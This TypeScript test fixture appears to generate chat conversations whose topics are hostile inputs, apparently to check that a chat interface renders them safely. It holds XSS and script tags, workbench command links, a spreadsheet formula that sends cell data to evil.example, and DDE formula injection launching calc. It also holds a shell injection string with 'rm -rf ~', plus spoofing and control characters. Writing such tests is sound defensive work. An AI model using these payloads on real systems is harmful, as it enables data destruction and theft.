import type { ChatPlan } from './chatFactory.ts';
import { user } from './members.ts';
import { adele, alex, hostilePeople, lee } from './people.ts';

/** Topics that try to be more than text; each chat also holds one of the people whose names do. */
export const hostileTopics: readonly string[] = [
  '[Sign in again](command:workbench.action.quit)',
  '[Open](https://evil.example) ![x](https://evil.example/track.png)',
  '$(warning) $(sync~spin) Administrator notice',
  '<img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(2)</script>',
  '<a href="command:workbench.action.quit">Renew your licence</a>',
  'command:workbench.action.quit',
  'Invoice\u202Efdp.exe\u202C and \u2066isolated\u2069',
  'Bell\u0007, null\u0000, escape\u001B[31m, tab\t and line\r\nbreaks',
  '=HYPERLINK("https://evil.example?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '`` `code` `` | pipe | **bold** _under_ ~~gone~~ # heading',
  '"; rm -rf ~ #$(touch /tmp/pwned)`id`',
  `${'Very long topic that never ends, '.repeat(12)}end of topic.`.slice(0, 400),
  'Zero\u200Bwidth\u200Djoiners\uFEFF and Z\u0351\u036B\u0343a\u0309\u0312l\u0338\u0322g\u0334o\u0321',
  '${env:HOME} %APPDATA% {0} {{name}} \\u0041 &lt;b&gt;',
];

/** One chat for each hostile topic. */
export const hostileChats: readonly ChatPlan[] = hostileTopics.map((topic, index) => {
  const person = hostilePeople[index % hostilePeople.length] ?? lee;
  return {
    key: `hostile ${index}`,
    chatType: index % 5 === 4 ? 'meeting' : 'group',
    topic,
    members: [user(alex), user(adele), user(person)],
    lastMessage: { from: person, text: topic },
  };
});
